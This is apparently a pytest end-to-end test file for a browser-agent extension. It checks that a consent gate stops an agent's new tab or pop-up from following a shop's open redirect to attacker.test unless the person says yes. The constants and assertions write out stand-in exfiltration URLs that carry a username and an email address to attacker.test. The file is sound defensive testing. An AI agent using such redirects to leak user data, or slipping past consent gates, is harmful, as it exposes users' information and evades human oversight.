"""Through the real extension and host, with a scripted model in the side panel: a tab
the agent opens is judged by where its load actually goes. ``new_tab`` to the shop's
open redirect, and a pop-up the agent's click opens on the shop's slow sign-in bounce,
each end on another site: the redirect waits for the person's answer to the site
question (the host's request guard over the relay, and the extension's gate while the
click runs), a no leaves nothing on the other site's log, a yes lets it through once.

The sites are the made-up ones of ``tests/support/injection_web.py``: one server on
127.0.0.1 that logs every request, and the browser resolves no other name."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import trio

from tests.extension.test_consent_e2e import PlannedModel, Step, _id_of
from tests.extension.test_tabs_panel_e2e import answer_until_ended
from tests.support.agent import open_agent, serve_model, submit_message
from tests.support.e2e import ExtensionBrowser, launch_with_extension
from tests.support.injection_web import Web, browser_args, serve_web

pytestmark = pytest.mark.browser

LEAK = "http://attacker.test/c/leak?who=sam"
OPEN_REDIRECT = "http://shop.test/go?to=http%3A%2F%2Fattacker.test%2Fc%2Fleak%3Fwho%3Dsam"


@pytest.fixture
async def web(nursery: trio.Nursery) -> Web:
    served: Web = await nursery.start(serve_web)
    return served


@pytest.fixture
async def ext(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, web: Web
) -> AsyncIterator[ExtensionBrowser]:
    monkeypatch.setenv("TRIMTAB_LOG_DIR", str(tmp_path / "logs"))
    args = tuple(browser_args(web.port))
    async with launch_with_extension(tmp_path / "profile", extra_args=args) as browser:
        yield browser


def _leaked(web: Web, path: str) -> list[str]:
    return [str(h) for h in web.hits if h.host == "attacker.test" and h.path == path]


async def _run(
    ext: ExtensionBrowser, url: str, plan: list[Step], allow: bool
) -> tuple[list[str], list[dict[str, Any]], int, int]:
    """Run ``plan`` in the side panel on ``url``, answering every question ``allow``: the
    questions, the steps, the browser's tabs and the gates left at the end."""
    async with trio.open_nursery() as nursery:
        model = await nursery.start(serve_model, PlannedModel(plan))
        panel, _ = await open_agent(ext, model, url)
        await submit_message(panel, "Check my parcel.")
        asked = await answer_until_ended(panel, allow=allow)
        # What the tab would still send (the pop-up's late redirect) lands first.
        await trio.sleep(2)
        steps = await panel.evaluate("trimtabPanel.state.steps")
        tabs = await ext.worker.evaluate("chrome.tabs.query({}).then((t) => t.length)")
        rules = await ext.worker.evaluate(
            "chrome.declarativeNetRequest.getSessionRules().then((r) => r.length)"
        )
        nursery.cancel_scope.cancel()
    return asked, steps, tabs, rules


@pytest.mark.parametrize("allow", [False, True], ids=["no", "yes"])
async def test_new_tab_through_an_open_redirect_through_the_side_panel(
    ext: ExtensionBrowser, web: Web, allow: bool
) -> None:
    """new_tab to the task's own site, which redirects to another: the person is asked
    about the other site; a no sends nothing there and leaves no new tab, a yes sends
    the request once and the agent acts in the new tab on the page it landed on."""
    plan: list[Step] = [
        lambda seen: ("capture_snapshot", {}),
        lambda seen: ("new_tab", {"url": OPEN_REDIRECT}),
    ]
    asked, steps, tabs, rules = await _run(ext, "http://shop.test/track.html", plan, allow)
    (opened,) = [s for s in steps if s["kind"] == "tool" and s["name"] == "new_tab"]
    assert len(asked) == 1, asked
    assert "attacker.test" in asked[0], asked
    assert rules == 0
    if allow:
        assert _leaked(web, "/c/leak") == ["GET attacker.test/c/leak?who=sam"]
        assert not opened["isError"], opened
        assert "you act in it now" in opened["content"], opened
        assert tabs == 3, "the first tab, the shop's and the new one"
    else:
        assert _leaked(web, "/c/leak") == [], "the redirect left the browser without a yes"
        assert opened["isError"], opened
        assert "Not done: new_tab did not open" in opened["content"], opened
        assert tabs == 2, "the refused tab was closed"


def _refresh(seen: str) -> tuple[str, dict[str, Any]]:
    return "click", {"id": _id_of(seen, r'<button id="[^"]+"[^>]*>Refresh my points')}


@pytest.mark.parametrize("allow", [False, True], ids=["no", "yes"])
async def test_a_pop_up_bounced_to_another_site_through_the_side_panel(
    ext: ExtensionBrowser, web: Web, allow: bool
) -> None:
    """The agent's click opens a pop-up on the task's own site, whose server redirects
    it to another site after the click is over: the person is asked about the other
    site before the redirect is sent; a no sends nothing there and closes the pop-up,
    a yes lets it load there once."""
    plan: list[Step] = [lambda seen: ("capture_snapshot", {}), _refresh]
    asked, steps, tabs, rules = await _run(ext, "http://shop.test/points.html", plan, allow)
    (clicked,) = [s for s in steps if s["kind"] == "tool" and s["name"] == "click"]
    assert len(asked) == 1, asked
    assert "attacker.test" in asked[0], asked
    assert rules == 0, "the click's gate was lifted"
    leaked = _leaked(web, "/c/bounce")
    if allow:
        assert leaked == ["GET attacker.test/c/bounce?member=sam.rivera%40mail.test"]
        assert tabs == 3, "the first tab, the shop's and the pop-up"
    else:
        assert leaked == [], "the pop-up's redirect left the browser without a yes"
        assert "it tried to open a pop-up on http://attacker.test/c/bounce" in clicked["content"]
        assert tabs == 2, "the refused pop-up was closed"
